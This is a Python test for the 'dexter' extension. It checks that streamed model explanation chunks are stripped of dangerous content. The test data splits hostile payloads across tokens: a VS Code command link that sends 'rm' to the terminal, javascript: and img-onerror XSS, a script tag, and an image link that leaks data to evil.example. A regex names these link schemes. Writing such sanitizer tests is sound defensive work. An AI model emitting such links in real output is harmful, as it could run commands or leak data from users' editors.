"""`dexter/explanationChunk` notifications carry cleaned text: a model that streams a
`command:` link, `javascript:` and `data:` links or raw HTML, split across chunks, reaches a
client that renders chunks as inert text."""

from __future__ import annotations

import re
from pathlib import Path

from tests.fakes.openai_fake import FakeOpenAI
from tests.robust.conftest import open_session

TOKENS = ["The name is ", "undefined. [Fix it](comm", "and:workbench.action.terminal.",
          "sendSequence?%7B%22text%22%3A%22rm%22%7D) or [x](java", "script:alert(1)).\n",
          "<img src=x onerr", "or=alert(1)> <scr", "ipt>steal()</script>\n\n",
          "See [docs](https://docs.python.org/3/) and ![t](https://evil.example/?q=", "code).\n"]
DANGER = re.compile(r"\]\(\s*(?:command|javascript|data|file|vscode):|<(?:img|script)\b",
                    re.IGNORECASE)


def test_streamed_chunks_are_cleaned(tmp_path: Path) -> None:
    fake = FakeOpenAI().start()
    fake.plan(tokens=TOKENS)
    settings = {"dexter": {"model": "local/gpt-4o-mini", "providers": {
        "local": {"type": "openai", "baseUrl": fake.base_url}}, "cache": {"enabled": False}}}
    session = open_session(tmp_path, settings)
    try:
        answer = session.explain()
        assert answer["result"]["model"] == "local/gpt-4o-mini", answer
        chunks = [n["params"] for n in session.server.notifications
                  if n["method"] == "dexter/explanationChunk"]
    finally:
        session.server.close()
        fake.stop()
    assert chunks, "nothing was streamed"
    streamed = "".join(c["text"] for c in chunks)
    assert not DANGER.search(streamed), streamed
    assert "Fix it" in streamed and "https://docs.python.org/3/" in streamed
    assert all(c["model"] == "local/gpt-4o-mini" for c in chunks)
